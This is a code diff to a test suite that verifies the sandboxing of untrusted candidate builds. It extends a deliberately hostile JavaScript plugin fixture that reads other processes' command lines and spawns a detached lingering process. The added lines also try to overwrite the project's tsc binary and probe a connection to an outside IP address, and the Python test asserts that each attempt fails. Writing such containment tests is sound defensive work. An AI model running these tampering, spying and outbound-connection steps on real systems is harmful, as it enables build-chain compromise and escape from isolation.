@@ -43,6 +43,11 @@ try {
     try { loot.cmdlines.push(fs.readFileSync("/proc/" + d + "/cmdline", "utf8").split("\0").join(" ")); } catch (e) {}
   }
 } catch (e) { loot.cmdlines.push(String(e.code)); }
+loot.uid = process.getuid();
+try { fs.writeFileSync("node_modules/.bin/tsc", "// replaced"); loot.runner = "replaced"; } catch (e) { loot.runner = String(e.code); }
+const probe = "require('net').connect(80, '203.0.113.9').on('error', e => console.log(e.code)).on('connect', () => console.log('CONNECTED'))";
+try { loot.net = require("child_process").spawnSync(process.execPath, ["-e", probe], { timeout: 8000 }).stdout.toString().trim(); }
+catch (e) { loot.net = String(e.code); }
 try { require("child_process").spawn("sleep", [LINGER], { detached: true, stdio: "ignore" }).unref(); loot.spawned = "yes"; }
 catch (e) { loot.spawned = String(e.code); }
 const b64 = Buffer.from(JSON.stringify(loot)).toString("base64");
@@ -140,6 +145,8 @@ def test_contained_build_of_the_attack(builder: Any, tmp_path: Path) -> None:
     # the plugin ran (it is the candidate's build), but only inside its container
     assert loot["cases"] == "ENOENT" and loot["spec"] == "ENOENT"
     assert not any("pytest" in c for c in loot["cmdlines"]), loot["cmdlines"]
+    # as the unprivileged user, offline, unable to replace the build tools
+    assert loot["uid"] == 10001 and loot["runner"] == "EACCES" and loot["net"] != "CONNECTED", loot
     assert not sentinel.exists() and not sentinel.parent.exists()
     assert _lingering(linger) == []
 
